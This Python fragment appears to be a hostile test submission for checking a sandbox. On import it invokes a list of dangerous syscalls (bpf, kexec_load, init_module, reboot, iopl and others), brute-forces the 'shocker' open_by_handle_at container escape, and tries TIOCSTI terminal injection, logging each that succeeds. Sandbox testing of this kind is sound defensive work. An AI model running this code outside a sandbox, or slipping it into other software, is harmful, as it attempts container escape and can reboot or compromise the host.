"""Kernel interfaces no submission needs, each a known way around a sandbox: bpf, keyctl,
perf_event_open, userfaultfd, io_uring (its own file operations), open_by_handle_at (the
"shocker" escape), kexec, modules, syslog, TIOCSTI on every fd, personality."""
# ---- the attack ----
def attack():
    calls = [("bpf", 321, (0, 0, 0)), ("keyctl", 250, (0, 0)), ("add_key", 248, (b"user", b"hbx", b"x", 1, -2)),
             ("perf_event_open", 298, (0, 0, -1, -1, 0)), ("userfaultfd", 323, (0,)), ("io_uring_setup", 425, (8, 0)),
             ("init_module", 175, (0, 0, b"")), ("finit_module", 313, (0, b"", 0)), ("kexec_load", 246, (0, 0, 0, 0)),
             ("syslog", 103, (3, 0, 0)), ("acct", 163, (b"/tmp/hbx-acct",)), ("iopl", 172, (3,)),
             ("ioperm", 173, (0, 1024, 1)), ("personality", 135, (0x0040000,)), ("swapon", 167, (b"/tmp/x", 0)),
             ("sethostname", 170, (b"hbx", 3)), ("reboot", 169, (0, 0, 0, 0)), ("quotactl", 179, (0, 0, 0, 0)),
             ("fanotify_init", 300, (0, 0)), ("lookup_dcookie", 212, (0, 0, 0)), ("vhangup", 153, ())]
    for name, number, args in calls:
        if _sys(name, "syscall", number, *args) is not None and name not in ("personality",):
            _proof("syscall", name)
    handle = ctypes.create_string_buffer(8 + 128)
    ctypes.c_uint32.from_buffer(handle).value = 128
    mount_id = ctypes.c_int()
    _sys("name_to_handle_at /", "syscall", 303, -100, b"/", handle, ctypes.byref(mount_id), 0)
    for inode in (2, 128, 1 << 20):  # the shocker brute force: guess the host root's handle
        ctypes.c_uint32.from_buffer(handle, 4).value = 1
        ctypes.c_uint64.from_buffer(handle, 8).value = inode
        if _sys(f"open_by_handle_at {inode}", "syscall", 304, 3, handle, 0) is not None:
            _proof("shocker", inode)
    char = ctypes.c_char(b"x")
    for fd in range(0, 8):
        if _LIBC.ioctl(fd, 0x5412, ctypes.byref(char)) == 0:  # TIOCSTI
            _proof("tiocsti", fd)
            _note("TIOCSTI", fd)


_try("attack at import", attack)
